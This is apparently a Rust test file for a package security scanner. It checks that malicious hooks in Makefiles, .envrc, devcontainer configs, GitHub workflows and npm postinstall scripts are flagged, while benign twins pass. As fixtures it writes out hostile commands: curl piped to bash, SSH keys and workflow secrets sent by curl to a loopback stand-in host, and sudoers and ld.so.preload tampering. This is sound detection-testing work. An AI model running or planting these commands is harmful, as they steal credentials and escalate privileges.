//! What recipes, environment hooks and workflows run, and what code does to the rest of the system: each habit with
//! an innocent twin.

use crate::common::{scan_one, write};
use doorward_protocol::{PackageReport, Verdict};

fn with(files: &[(&str, &str)]) -> PackageReport {
    let folder = tempfile::tempdir().expect("a folder");
    write(
        folder.path(),
        &[("package.json", "{\"name\": \"made-up\", \"version\": \"1.0.0\"}"), ("index.js", "1;\n")],
    );
    write(folder.path(), files);
    scan_one(folder.path())
}

fn hooked(script: &str) -> PackageReport {
    let manifest =
        "{\"name\": \"made-up\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"node setup.js\"}}";
    with(&[("package.json", manifest), ("setup.js", script)])
}

#[track_caller]
fn found(report: &PackageReport, rule: &str, least: Verdict) {
    assert!(report.findings.iter().any(|finding| finding.rule == rule), "{rule}: {report:#?}");
    assert!(report.verdict >= least, "{rule}: {report:#?}");
}

#[test]
fn files_that_other_tools_run_are_read() {
    for (path, text, rule, least) in [
        (".envrc", "export A=1\ncurl -s http://127.0.0.1:9/x | bash\n", "B-11", Verdict::Suspicious),
        (
            "Makefile",
            "all:\n\tcat ~/.ssh/id_rsa | curl -d @- http://127.0.0.1:9\n",
            "B-11",
            Verdict::Malicious,
        ),
        ("justfile", "go:\n  curl http://127.0.0.1:9/x | sh\n", "B-11", Verdict::Notable),
        (
            ".devcontainer/devcontainer.json",
            "{\"postCreateCommand\": \"curl http://127.0.0.1:9 | bash\"}",
            "B-11",
            Verdict::Suspicious,
        ),
        (
            ".github/workflows/a.yml",
            "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}' http://127.0.0.1:9\n",
            "P-10",
            Verdict::Malicious,
        ),
        (
            ".github/workflows/b.yml",
            "on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n",
            "P-10",
            Verdict::Malicious,
        ),
        (
            ".github/workflows/c.yml",
            "jobs:\n  a:\n    steps:\n      - run: echo ZWNobw== | base64 -d | bash\n",
            "P-10",
            Verdict::Suspicious,
        ),
    ] {
        found(&with(&[(path, text)]), rule, least);
    }
    for (path, text) in [
        (".envrc", "use flake\nexport DATABASE=postgres://localhost/x\n"),
        ("Makefile", "all:\n\tcc -o a a.c\ntest: all\n\t./a\n"),
        (
            ".github/workflows/a.yml",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          T: ${{ secrets.TOKEN }}\n",
        ),
        (".devcontainer/devcontainer.json", "{\"postCreateCommand\": \"npm ci\"}"),
    ] {
        assert_eq!(with(&[(path, text)]).verdict, Verdict::Clean, "{path}");
    }
}

#[test]
fn what_an_install_script_does_to_the_system_has_its_name() {
    for (rule, script) in [
        ("R-17", "require('child_process').execSync('git commit --amend --no-edit && git push --force');"),
        ("R-25", "require('child_process').execSync('ssh -o StrictHostKeyChecking=no host id');"),
        ("R-26", "require('fs').appendFileSync('/etc/ld.so.preload', '/tmp/x.so');"),
        ("R-29", "require('fs').appendFileSync('/etc/sudoers.d/x', 'ALL=(ALL) NOPASSWD: ALL');"),
        ("P-08", "require('fs').writeFileSync('/usr/lib/node_modules/npm/lib/cli.js', 'x');"),
        ("P-11", "require('fs').writeFileSync('/x/.local/bin/gh-token-monitor', 'x');"),
    ] {
        found(&hooked(script), rule, Verdict::Suspicious);
    }
    let calm = "require('child_process').execSync('git rev-parse HEAD'); require('fs').writeFileSync('build/x.json', '{}');";
    assert!(hooked(calm).verdict <= Verdict::Notable);
}
